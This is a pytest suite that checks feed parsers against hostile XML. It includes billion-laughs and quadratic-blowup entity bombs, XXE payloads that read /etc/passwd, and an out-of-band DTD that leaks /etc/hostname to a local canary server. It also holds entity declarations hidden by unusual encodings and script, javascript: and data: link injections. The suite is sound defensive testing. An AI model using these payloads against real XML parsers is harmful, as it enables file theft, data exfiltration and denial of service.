"""RELIABILITY.md 14-17 against every backend: each hostile body is handled within 1 s and
100 MB, reads no file, makes no request, and yields only cleaned titles and http(s) links.

Each case runs in a fresh interpreter, so its peak memory (ru_maxrss, which counts lxml's and
expat's C allocations too) is measured on its own. A real HTTP server on 127.0.0.1 stands in
for the attacker's: any request to it is a leak.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from conftest import ROOT
from feedserver import FeedServer

from monitor.read_fast import CHARDET_INSTALLED

BACKENDS = ("auto", "fast", "feedparser")
# bodies the fast reader declines on purpose (auto hands them to feedparser), with the reason
FAST_DECLINES = {
    "unclosed-tags": "mismatched tags cannot be mended without guessing; feedparser's loose "
                     "parser reads them",
}
if CHARDET_INSTALLED:
    for _name in ("latin1-declared-utf8", "cp1252-declared-utf8"):
        FAST_DECLINES[_name] = "with chardet installed feedparser guesses the charset; we do not"
SECONDS, MEGABYTES = 1.0, 100

PROBE = r"""
import json, resource, sys, time
from monitor.feeds import HostileFeed, NotAFeed, parse_bytes

def peak_mb():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024

body = open(sys.argv[1], "rb").read()
warm = b'<rss version="2.0"><channel><title>w</title><item><title>w</title></item></channel></rss>'
for b in ("auto", "fast", "feedparser"):
    parse_bytes(warm, backend=b)
base = peak_mb()
out = {}
for backend in sys.argv[2:]:
    t0 = time.perf_counter()
    try:
        parsed = parse_bytes(body, backend=backend)
        result = {"outcome": "items", "backend": parsed.backend,
                  "titles": [i.title for i in parsed.items],
                  "links": [i.link for i in parsed.items],
                  "texts": [i.text for i in parsed.items]}
    except HostileFeed as exc:
        result = {"outcome": "hostile", "error": str(exc)}
    except NotAFeed as exc:
        result = {"outcome": "not_a_feed", "error": str(exc)}
    result["seconds"] = time.perf_counter() - t0
    out[backend] = result
# defence in depth: the fast reader alone, without the entity pre-check, must expand nothing
from monitor import read_fast
t0 = time.perf_counter()
try:
    titles = [e.title for e in read_fast.read(body).entries]
except Exception as exc:
    titles = [type(exc).__name__]
out["unguarded"] = {"titles": titles, "seconds": time.perf_counter() - t0}
out["grew_mb"] = peak_mb() - base
print(json.dumps(out))
"""

RSS = ('<?xml version="1.0" encoding="{enc}"?><rss version="2.0"><channel><title>T</title>'
       "{items}</channel></rss>")


def rss(items: str, enc: str = "utf-8") -> str:
    return RSS.format(enc=enc, items=items)


EXPANDS = ('<!DOCTYPE r [<!ENTITY x "EXPANDED-ENTITY">]><rss version="2.0"><channel>'
           "<title>T</title><item><title>&x;</title></item></channel></rss>")


def hidden_declarations() -> dict[str, bytes]:
    """A declared entity that `<!ENTITY` as bytes does not find, by encoding."""
    decl = '<?xml version="1.0" encoding="{}"?>'
    return {
        "ebcdic-cp037": (decl.format("cp037") + EXPANDS).encode("cp037"),
        "ebcdic-cp500": (decl.format("cp500") + EXPANDS).encode("cp500"),
        "utf7": decl.format("utf-7").encode() + EXPANDS.replace("<!", "+ADwAIQ-").encode(),
        "iso2022jp-escape": (decl.format("iso-2022-jp")
                             + EXPANDS.replace("<!ENTITY", "<!EN\x1b(BTITY")).encode(),
        "iso2022kr-shift": (decl.format("iso-2022-kr")
                            + EXPANDS.replace("<!ENTITY", "<!EN\x0fTITY")).encode(),
        "utf16be-no-bom": (decl.format("utf-16") + EXPANDS).encode("utf-16-be"),
        "utf32-bom": (decl.format("utf-32") + EXPANDS).encode("utf-32"),
    }


def cases(canary: Callable[[str], str]) -> dict[str, tuple[bytes, str]]:
    """name -> (body, what every backend must make of it)."""
    lol = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    doctype_end = "]>"
    return {
        # 14: entity tricks are refused before any parser runs
        "billion-laughs": (
            ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">' + lol + doctype_end
             + "<rss><channel><title>&lol9;</title></channel></rss>").encode(), "hostile"),
        "quadratic-blowup": (
            ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + "A" * 50_000 + '">]>'
             "<rss><channel><title>T</title><item><title>" + "&a;" * 50_000
             + "</title></item></channel></rss>").encode(), "hostile"),
        "xxe-file": (
            (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
             b"<rss><channel><title>T</title><item><title>&x;</title></item></channel></rss>"),
            "hostile"),
        "xxe-http": (
            (f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{canary("/canary/x")}">]>'
             "<rss><channel><title>T</title><item><title>&x;</title></item></channel></rss>"
             ).encode(), "hostile"),
        "xxe-parameter": (
            (f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{canary("/f/evil.dtd")}">'
             "%p;]><rss><channel><title>T</title><item><title>&send;</title></item>"
             "</channel></rss>").encode(), "hostile"),
        "xxe-utf16": (
            ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY x SYSTEM '
             '"file:///etc/passwd">]><rss><channel><title>T</title><item><title>&x;</title>'
             "</item></channel></rss>").encode("utf-16"), "hostile"),
        # entity declarations hidden from a byte search by the encoding: feedparser reads
        # every one of these and expands the entity (test_feedparser_alone_expands_them)
        **{f"hidden-{k}": (v, "hostile") for k, v in hidden_declarations().items()},
        # an external DTD or an XInclude, with no entity declaration: never fetched
        "external-dtd": (
            (f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{canary("/canary/rss.dtd")}">'
             + rss("<item><title>Kursk</title><guid>1</guid></item>").split("?>", 1)[1]
             ).encode(), "items"),
        "xinclude": (
            rss('<item><title>Kursk</title><guid>1</guid><description xmlns:xi='
                f'"http://www.w3.org/2001/XInclude"><xi:include href="{canary("/canary/xi")}"'
                ' parse="text"/></description></item>').encode(), "items"),
        # 15: malformed XML and wrong encodings still give the titles
        "latin1-declared-utf8": (
            rss("<item><title>Koursk</title><guid>1</guid><description>Séoul: 3 000 soldats"
                "</description></item>").encode("latin-1"), "items"),
        "utf16-no-bom": (
            rss("<item><title>Kursk</title><guid>1</guid></item>", "utf-16").encode("utf-16-le"),
            "items"),
        "bom-and-whitespace": (
            b"\xef\xbb\xbf \n\t" + rss("<item><title>Kursk</title><guid>1</guid></item>").encode(),
            "items"),
        "unclosed-tags": (
            rss("<item><title>Kursk <b>unclosed</title><guid>1</guid>"
                "<description>3 000 soldats").encode(), "items"),
        "cp1252-declared-utf8": (
            rss("<item><title>Kursk \x93quoted\x94</title><guid>1</guid></item>").encode("latin-1"),
            "items"),
        # 16: NUL, ANSI escapes, bidi overrides
        "control-characters": (
            rss("<item><title>Kursk\x00 \x1b[31mred\x1b[0m \u202eevil\u202c &#x202E;x</title>"
                "<guid>1</guid><description><![CDATA[<p>a\x01b\x1b[1mc\x1b[0m</p>]]>"
                "</description></item>").encode(),
            "items"),
        # 17: scripts, non-http links, forms, tracking pixels
        "script-links": (
            rss("<item><title>&lt;script&gt;alert(1)&lt;/script&gt;Kursk</title>"
                "<link>javascript:alert(1)</link><guid isPermaLink='false'>1</guid>"
                "<description><![CDATA[<script>alert(2)</script><form action='https://evil.example'>"
                "<input name=q></form><img src='https://t.example/p.gif' width=1 height=1>"
                "<a href='data:text/html,hi'>3 000 soldats</a>]]></description></item>"
                "<item><title>Kursk</title><guid>2</guid><link>data:text/html,hi</link></item>"
                "<item><title>Kursk</title><link>file:///etc/passwd</link></item>").encode(),
            "items"),
    }


@pytest.fixture(scope="module")
def attacker() -> Iterator[FeedServer]:
    s = FeedServer().start()
    s.files["evil.dtd"] = (
        b'<!ENTITY % file SYSTEM "file:///etc/hostname">'
        b'<!ENTITY % all "<!ENTITY send SYSTEM \'' + s.url("/canary/leak?%file;").encode()
        + b"'>\">%all;")
    yield s
    s.stop()


NAMES = list(cases(lambda p: p))


@pytest.mark.parametrize("name", NAMES)
def test_hostile_body_within_limits(name: str, attacker: FeedServer, tmp_path: Path) -> None:
    body, expected = cases(attacker.url)[name]
    path = tmp_path / "body.xml"
    path.write_bytes(body)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run([sys.executable, "-c", PROBE, str(path), *BACKENDS], cwd=ROOT,
                          capture_output=True, text=True, timeout=60, env=env)
    assert proc.returncode == 0, proc.stderr[-2000:]
    out = json.loads(proc.stdout)
    assert out["grew_mb"] < MEGABYTES, out["grew_mb"]
    assert attacker.hits("/canary") == 0 and attacker.hits("/f/evil") == 0
    unguarded = out["unguarded"]
    assert unguarded["seconds"] < SECONDS
    assert all("root:" not in t and len(t) < 500_000 for t in unguarded["titles"])
    for backend in BACKENDS:
        r = out[backend]
        assert r["seconds"] < SECONDS, (backend, r["seconds"])
        if backend == "fast" and name in FAST_DECLINES:
            assert r["outcome"] == "not_a_feed", r
            continue
        assert r["outcome"] == expected, (backend, r)
        if expected != "items":
            continue
        seen = json.dumps(r, ensure_ascii=False)
        assert "root:" not in seen and "\x00" not in seen and "\x1b" not in seen
        assert "\u202e" not in seen and "alert" not in seen and "<" not in "".join(r["titles"])
        assert all(t and "Kursk" in t or "Koursk" in t for t in r["titles"]), r["titles"]
        assert all(link is None or link.startswith(("http://", "https://"))
                   for link in r["links"])


def test_expected_titles_survive_the_encoding_tricks(attacker: FeedServer) -> None:
    """What the checks above take on trust: the decoded titles are the right ones."""
    from monitor.feeds import parse_bytes

    all_cases = cases(attacker.url)
    for backend in BACKENDS:
        def titles(name: str, b: str = backend) -> list[str]:
            return [i.title for i in parse_bytes(all_cases[name][0], backend=b).items]  # type: ignore[arg-type]

        if backend != "fast":  # the fast reader declines this one; auto hands it over
            assert titles("unclosed-tags")[0].startswith("Kursk")
        assert titles("utf16-no-bom") == ["Kursk"]
        if backend != "fast" or not CHARDET_INSTALLED:  # with it, fast declines these
            assert titles("latin1-declared-utf8") == ["Koursk"]
        if not CHARDET_INSTALLED:  # with it, feedparser guesses, and may guess another charset
            assert titles("cp1252-declared-utf8") == ["Kursk \u201cquoted\u201d"]
        assert titles("bom-and-whitespace") == ["Kursk"]
        assert titles("control-characters") == ["Kursk red evil x"]
        assert [i.text for i in parse_bytes(all_cases["control-characters"][0],
                                            backend=backend).items] == ["abc"]  # type: ignore[arg-type]
        assert titles("script-links") == ["Kursk", "Kursk", "Kursk"]


@pytest.mark.parametrize("name", list(hidden_declarations()))
def test_feedparser_alone_expands_them(name: str) -> None:
    """Why the hidden declarations matter: unguarded, feedparser expands every one."""
    import feedparser

    parsed = feedparser.parse(hidden_declarations()[name])
    assert [e.get("title") for e in parsed.entries] == ["EXPANDED-ENTITY"]


def test_a_declared_charset_from_http_is_searched_too() -> None:
    from monitor.feeds import HostileFeed, parse_bytes

    body = EXPANDS.encode("cp500")
    with pytest.raises(HostileFeed, match="cp500"):
        parse_bytes(body, content_type="application/xml; charset=cp500")
